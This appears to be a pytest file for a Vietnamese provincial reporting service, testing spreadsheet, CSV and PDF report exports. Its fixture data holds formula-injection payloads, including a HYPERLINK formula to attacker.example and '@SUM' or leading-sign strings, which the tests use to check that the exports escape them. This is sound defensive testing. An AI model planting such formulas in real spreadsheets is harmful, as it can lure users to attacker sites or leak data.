"""Spreadsheets and PDFs of the reports: values not formulas, escaped formula-like text, print set-up, sheet names,
the reporting unit and scope named; PDFs read back with poppler's pdftotext."""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import subprocess
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncEngine

from libs.common.testing import AUTH
from libs.common.web.pdf import inspect_pdf
from services.reporting.reports.sheets import safe_text, sheet_title
from services.reporting.tests.test_api import province  # noqa: F401  (fixture)

LEADER = AUTH["leader"]
A4_LANDSCAPE = (841.89, 595.28)
EVIL = '=HYPERLINK("http://attacker.example/?x=1","Bấm vào đây")'
PLAN: dict[str, Any] = {
    "plan_id": "thu-2024",
    "name": EVIL,
    "legal_reference": "@SUM(1+1)",
    "years": [2024],
    "targets": [
        {"indicator": "on_time_rate", "comparator": ">=", "value": 90, "scope": {"label": "-2+3 toàn tỉnh"}},
        {"indicator": "e_result_rate", "comparator": "=", "value": 100},
    ],
}


class TestSheetHelpers:
    def test_formula_like_text_is_escaped(self) -> None:
        for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
            assert safe_text(text) == "'" + text
        assert safe_text("Sở Tư pháp") == "Sở Tư pháp"

    def test_sheet_names_cut_at_a_word_and_unique(self) -> None:
        used: set[str] = set()
        first = sheet_title("Ủy ban nhân dân huyện Yên Thế, tỉnh Bắc Giang", used)
        assert first == "Ủy ban nhân dân huyện Yên Thế"
        second = sheet_title("Ủy ban nhân dân huyện Yên Thế, tỉnh Bắc Ninh", used)
        assert second == "Ủy ban nhân dân huyện Yên (2)"
        assert sheet_title("a/b:c", used) == "a-b-c"
        assert all(len(t) <= 31 for t in used)


@pytest_asyncio.fixture
async def evil_plan(province: AsyncEngine, client: httpx.AsyncClient) -> str:  # noqa: F811
    response = await client.post("/plans", json=PLAN, headers=LEADER)
    assert response.status_code in (200, 201), response.text
    return str(PLAN["plan_id"])


PARAMS: dict[str, Any] = {"plan": "thu-2024", "year": 2024, "quarter": 1}


@pytest.mark.asyncio
class TestComplianceSpreadsheet:
    async def test_xlsx_values_escapes_and_print_setup(self, evil_plan: str, client: httpx.AsyncClient) -> None:
        response = await client.get("/reports/compliance", params={**PARAMS, "format": "xlsx"}, headers=LEADER)
        assert response.status_code == 200
        wb = load_workbook(io.BytesIO(response.content))
        ws = wb["Toàn tỉnh"]
        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"], "no formulas at all"
        plan_line = ws["A3"]
        assert plan_line.value == f"{EVIL} (@SUM(1+1))"
        assert plan_line.data_type == "s" and plan_line.quotePrefix
        targets = {ws.cell(row=r, column=4).value: ws.cell(row=r, column=4) for r in range(10, ws.max_row + 1)}
        assert "= 100%" in targets and targets["= 100%"].data_type == "s" and targets["= 100%"].quotePrefix
        assert "≥ 90%" in targets
        scope = next(c for c in ws["C"] if c.value == "-2+3 toàn tỉnh")
        assert scope.data_type == "s" and scope.quotePrefix
        # the unit named, the scope of the sheet said, title rows merged across the table and wrapped
        assert ws["A2"].value == "Đơn vị báo cáo: Tỉnh Thử"
        assert ws["A7"].value.startswith("Phạm vi của trang này: Toàn tỉnh")
        assert "A1:N1" in {str(r) for r in ws.merged_cells.ranges}
        assert ws["A1"].alignment.wrap_text
        # printing: A4 landscape, one page wide, the header row on every page
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.print_title_rows == "$9:$9"
        # widths fitted: the indicator names' column is wider than the numbers'
        assert ws.column_dimensions["B"].width > ws.column_dimensions["E"].width >= 8

    async def test_csv_escapes(self, evil_plan: str, client: httpx.AsyncClient) -> None:
        response = await client.get("/reports/compliance", params={**PARAMS, "format": "csv"}, headers=LEADER)
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == ["Đơn vị báo cáo", "Tỉnh Thử"]
        assert rows[1] == ["Kế hoạch", "'" + EVIL, "'@SUM(1+1)"]
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")]
        assert "'= 100%" in cells and "'-2+3 toàn tỉnh" in cells

    @pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
    async def test_libreoffice_prints_landscape(
        self, evil_plan: str, client: httpx.AsyncClient, tmp_path: Path
    ) -> None:
        response = await client.get("/reports/compliance", params={**PARAMS, "format": "xlsx"}, headers=LEADER)
        (tmp_path / "r.xlsx").write_bytes(response.content)
        await asyncio.to_thread(
            subprocess.run,
            ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "r.xlsx")],
            check=True,
            capture_output=True,
            timeout=120,
        )
        facts = inspect_pdf((tmp_path / "r.pdf").read_bytes())
        width, height = facts.page_size_pt
        assert width > height
        assert "HYPERLINK" in facts.text  # shown as text, not run


@pytest.mark.asyncio
class TestReportPdfs:
    async def test_compliance_pdf(self, evil_plan: str, client: httpx.AsyncClient) -> None:
        response = await client.get("/reports/compliance", params={**PARAMS, "format": "pdf"}, headers=LEADER)
        assert response.status_code == 200
        assert response.headers["content-type"] == "application/pdf"
        facts = inspect_pdf(response.content)
        assert facts.page_size_pt == pytest.approx(A4_LANDSCAPE, abs=1)
        assert "Đơn vị báo cáo: Tỉnh Thử" in facts.text
        assert "Quý I/2024 (15/12/2023 – 14/03/2024)" in facts.text
        assert "khung thời gian chính thức" in facts.text
        assert f"Trang 1/{facts.pages}" in facts.text
        assert "Tỷ lệ hồ sơ giải quyết trước và đúng hạn" in facts.text

    async def test_results_form_pdf_repeats_headers(
        self,
        province: AsyncEngine,  # noqa: F811
        client: httpx.AsyncClient,
    ) -> None:
        response = await client.get(
            "/reports/results-form", params={"year": 2024, "quarter": 1, "format": "pdf"}, headers=LEADER
        )
        facts = inspect_pdf(response.content)
        assert facts.page_size_pt == pytest.approx(A4_LANDSCAPE, abs=1)
        assert "KẾT QUẢ GIẢI QUYẾT THỦ TỤC HÀNH CHÍNH" in facts.text
        assert "Tỉnh Thử" in facts.text and "Quý I/2024" in facts.text
        assert "UBND xã Tam Tiến" in " ".join(facts.text.split()), facts.text
        assert f"Trang {facts.pages}/{facts.pages}" in facts.text
        # two tables (by sector, by agency), each with its header; repeated on every page a table spans
        assert facts.text.count("Số hồ sơ nhận giải quyết") >= 2

    async def test_index_766_pdf_and_files(
        self,
        province: AsyncEngine,  # noqa: F811
        client: httpx.AsyncClient,
    ) -> None:
        params: dict[str, Any] = {"year": 2024, "quarter": 1, "by_agency": True}
        response = await client.get("/reports/index-766", params={**params, "format": "pdf"}, headers=LEADER)
        facts = inspect_pdf(response.content)
        assert "Quyết định số 766/QĐ-TTg" in facts.text
        assert "Quý I/2024" in facts.text and "Tỉnh Thử" in facts.text
        assert "không có dữ liệu" in facts.text
        assert "Trang 1/" in facts.text
        xlsx = await client.get("/reports/index-766", params={**params, "format": "xlsx"}, headers=LEADER)
        wb = load_workbook(io.BytesIO(xlsx.content))
        summary = wb[wb.sheetnames[0]]
        assert summary["A2"].value == "Đơn vị báo cáo: Tỉnh Thử"
        labels = [summary.cell(row=r, column=1).value for r in range(1, summary.max_row + 1)]
        assert "Toàn tỉnh" in labels
        assert len(set(wb.sheetnames)) == len(wb.sheetnames) == 1 + 1 + 3
